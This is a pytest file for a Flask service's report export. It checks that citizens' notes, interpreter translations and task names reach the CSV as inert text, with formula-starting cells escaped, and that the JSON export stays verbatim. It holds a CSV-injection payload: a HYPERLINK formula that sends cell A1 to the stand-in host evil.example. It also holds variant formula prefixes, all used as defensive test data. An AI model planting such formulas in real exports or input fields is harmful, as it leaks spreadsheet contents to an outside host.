"""Security item 2 (issue 17): her words, and the interpreter's, reach the report CSV as text, never as a live formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import insert
from sqlmodel import Session, select

from app import clock
from app.domain.spreadsheet import FORMULA_STARTS, spreadsheet_text
from app.models import Citizen, DayEntry, EntryTask, StaffUser, Task
from app.services import audit
from app.services.translations import translate_note
from app.web.consultant.report_files import CSV_COLUMNS
from tests.conftest import FROZEN_NOW, TODAY
from tests.helpers import csrf_token, translated

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1)'


@pytest.mark.parametrize("value", [PAYLOAD, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1",
                                   "\uff0b1", "\uff0d1", "\uff201", "  =1+1"])
def test_a_cell_that_could_start_a_formula_becomes_text(value: str) -> None:
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Ondt i ryggen", "1,5", "ظهري يؤلمني", "e-mail", "a=b"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert spreadsheet_text(value) == value


def test_her_note_reason_and_the_translation_reach_the_csv_as_text(app: Flask, db: Session, browser: FlaskClient,
                                                                  make_citizen: Callable[..., Citizen], consultant: StaffUser,
                                                                  make_staff: Callable[..., StaffUser]) -> None:
    her = make_citizen(name="Fatima", language="ar", valid_from=TODAY - timedelta(weeks=2), tasks=(("cleaning", PAYLOAD),))
    her.consultant_id = consultant.id
    db.add(her)
    db.commit()
    common = {"citizen_id": her.id, "early_reasons": "", "pain": 4, "entered_by": "self", "confirmed_by_citizen": True,
              "payload_hash": "x", "created_at": FROZEN_NOW, "updated_at": FROZEN_NOW, "note_language": "ar"}
    db.execute(insert(DayEntry), [
        {**common, "day": TODAY - timedelta(days=7), "attendance": "early", "hours_worked": 1.5, "note": PAYLOAD,
         "reason_text": PAYLOAD, "idempotency_key": "a"},
        {**common, "day": TODAY - timedelta(days=9), "attendance": "absent", "absence_reason": "other", "told_in_advance": False,
         "reason_text": "-hovedpine", "note": "", "idempotency_key": "b"},
    ])
    db.commit()
    entry = db.exec(select(DayEntry).where(DayEntry.note == PAYLOAD)).one()
    db.add(EntryTask(entry_id=entry.id, task_id=db.exec(select(Task)).one().id, hard=True))
    db.commit()
    interpreter = make_staff("interpreter")  # the interpreter's Danish words are free text too
    assert translate_note(db, audit.Actor("staff", interpreter.id, "interpreter"), her.id, entry.id, PAYLOAD, clock.utcnow())
    saved = browser.post(f"/c/citizens/{her.id}/reports", data={
        "csrf_token": csrf_token(browser, "/c/"), "start": (TODAY - timedelta(weeks=2)).isoformat(), "end": TODAY.isoformat(),
        "assessment": "Vurdering"})
    location = saved.headers["Location"]

    rows = list(csv.reader(io.StringIO(browser.get(f"{location}/csv").data.decode("utf-8-sig")), delimiter=";"))
    column = {name: rows[0].index(translated(app, "da", name)) for name in CSV_COLUMNS}
    early = next(r for r in rows[1:] if r[column["Her note"]])
    for name in ("Her note", "Reason in her own words", "The note in Danish", "Tasks done", "Tasks that were hard"):
        assert early[column[name]] == "'" + PAYLOAD, name
    absent = next(r for r in rows[1:] if not r[column["Her note"]])
    assert absent[column["Reason in her own words"]] == "'-hovedpine"
    # Numbers stay numbers, as Danish Excel reads them; no cell anywhere can start a formula.
    assert early[column["Hours worked"]] == "1,5" and early[column["Pain (0–10)"]] == "4"
    assert all(cell[:1] not in FORMULA_STARTS for row in rows for cell in row)
    # The machine-readable export keeps her words exactly as she wrote them: JSON is not a spreadsheet.
    entries = browser.get(f"{location}/json").get_json()["entries"]
    assert next(e for e in entries if e["note"])["note"]["text"] == PAYLOAD
